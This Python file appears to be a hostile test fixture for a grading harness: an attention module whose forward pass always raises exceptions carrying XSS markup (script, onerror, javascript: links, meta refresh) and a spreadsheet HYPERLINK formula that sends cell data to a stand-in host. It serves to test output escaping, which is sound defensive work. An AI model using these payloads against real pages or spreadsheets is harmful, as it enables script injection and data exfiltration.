"""Hostile: forward raises exceptions whose text and class name are live markup (<script>,
<img onerror>, <a href="javascript:...">, <meta http-equiv=refresh>, <svg onload>, an unclosed
<textarea>) and spreadsheet formulas, so that every reason a page shows is an injection attempt;
honest score: 0 (forward always raises)."""
import itertools

from torch import nn

import toolkit

PAYLOADS = [
    '<script class="hostile-xss">alert(1)</script>',
    '<img class="hostile-xss" src=x onerror="alert(2)">',
    '<a class="hostile-xss" href="javascript:alert(3)">details</a>',
    '<meta class="hostile-xss" http-equiv="refresh" content="0;url=javascript:alert(4)">',
    '<svg class="hostile-xss" onload="alert(5)"></svg>',
    '=HYPERLINK("http://hostile.invalid/?"&A1,"grades")',
    '</td></tr></table><textarea class="hostile-xss">',
]
_calls = itertools.count()


class Boom(Exception):
    pass


Boom.__name__ = Boom.__qualname__ = 'Boom<img class="hostile-xss" src=x onerror="alert(6)">'


class Attention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.c_attn = nn.Linear(config.n_embd, 3 * config.n_embd)
        self.c_proj = nn.Linear(config.n_embd, config.n_embd)

    def forward(self, x):
        raise Boom(PAYLOADS[next(_calls) % len(PAYLOADS)])


@toolkit.hookimpl
def toolkit_attention(config):
    return Attention(config)
